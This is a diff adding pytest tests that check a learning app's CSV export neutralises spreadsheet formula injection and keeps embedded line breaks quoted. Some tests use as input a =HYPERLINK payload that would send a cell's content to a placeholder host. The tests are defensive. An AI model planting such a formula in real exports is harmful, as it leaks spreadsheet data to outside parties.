@@ -395,6 +395,73 @@ def test_csv_export_leaves_empty_cells_empty():
     assert [row["last_answer"] for row in csv.DictReader(io.StringIO(text))] == ["", "'=1+1"]
 
 
+def test_csv_answer_starting_with_a_line_break_and_a_formula_is_prefixed():
+    """brk10web3: an answer typed as a line break then "=HYPERLINK(…)" (a text area keeps the leading line
+    break) went into the CSV as it was: LF is on OWASP's list of cell starts to neutralise (2025), and a
+    spreadsheet that trims the cell runs the formula."""
+    answer = '\n=HYPERLINK("http://x.test/?"&A1,"ok")'
+    text = to_csv([{"exercise_id": "a", "last_answer": answer}])
+    assert [row["last_answer"] for row in csv.DictReader(io.StringIO(text))] == ["'" + answer]
+
+
+@pytest.mark.parametrize("space", ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u2003"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_may_trim_into_a_formula_are_prefixed(space, start):
+    """Every formula start, after every kind of leading white space a spreadsheet may trim (ASCII, no-break,
+    the ideographic space a Chinese input method types), in both downloads (the student's to_csv_bytes and the
+    dashboard's class export, which share one writer) and in a name column as well as an answer."""
+    from toolcall.progress import to_csv_bytes
+    cell = f"{space}{start}1+1"
+    raw = to_csv_bytes([{"exercise_id": "a", "title": cell, "last_answer": cell}], ("exercise_id", "title", "last_answer"))
+    assert raw.startswith("\ufeff".encode())
+    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert (row["title"], row["last_answer"]) == ("'" + cell, "'" + cell)
+
+
+def test_csv_answer_holding_a_carriage_return_stays_one_row():
+    """brk10web3: rows ended in LF alone, so the writer left a cell holding a bare CR unquoted:
+    ``x\r=HYPERLINK(…)`` went out as ``a,x\r=HYPERLINK(…)``, which a spreadsheet (it ends a row at a CR) read as
+    two rows, the second starting with the formula, unprefixed. Python's reader refused the file outright."""
+    answer = 'x\r=HYPERLINK("http://x.test/?"&A1,"ok")'
+    text = to_csv([{"exercise_id": "a", "last_answer": answer}], ("exercise_id", "last_answer"))
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == [["exercise_id", "last_answer"], ["a", answer]]
+
+
+def _row_breaks_outside_quotes(text: str) -> list[str]:
+    """The line-break characters of ``text`` outside quoted cells that are not a row's CRLF end: where a
+    spreadsheet would start a row the writer did not mean."""
+    stray, quoted, i = [], False, 0
+    while i < len(text):
+        c = text[i]
+        if c == '"':
+            quoted = not quoted
+        elif not quoted and text.startswith("\r\n", i):
+            i += 1
+        elif not quoted and c in "\r\n":
+            stray.append(c)
+        i += 1
+    return stray
+
+
+@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n", "\n\r", "\r\r"])
+@pytest.mark.parametrize("where", ["start", "middle", "end"])
+def test_csv_line_breaks_inside_a_cell_never_start_a_row(brk, where):
+    """Every line break a cell can hold, anywhere in it, is inside quotes: the only row breaks are the writer's."""
+    cell = {"start": brk + "x", "middle": "x" + brk + "y", "end": "x" + brk}[where]
+    text = to_csv([{"exercise_id": cell, "last_answer": cell}], ("exercise_id", "last_answer"))
+    assert _row_breaks_outside_quotes(text) == []
+    assert text.count("\r\n") - (cell.count("\r\n") * 2) == 2  # the header's end and the row's end
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [
+        ("'" + cell) if cell[:1] in "\r\n" else cell] * 2
+
+
+@pytest.mark.parametrize("cell", ["a=1", "1-2", " x", "\u3000答案", "   ", "A@b", "'=already"])
+def test_csv_cells_that_do_not_start_like_a_formula_are_kept(cell):
+    text = to_csv([{"exercise_id": "a", "last_answer": cell}])
+    assert next(csv.DictReader(io.StringIO(text)))["last_answer"] == cell
+
+
 def test_learner_ids_carry_about_48_bits():
     """Issue 13: the docstring said "about 36 bits"; 20 × 20 × 16^6 is 32.6 bits. Now 16^10."""
     import math
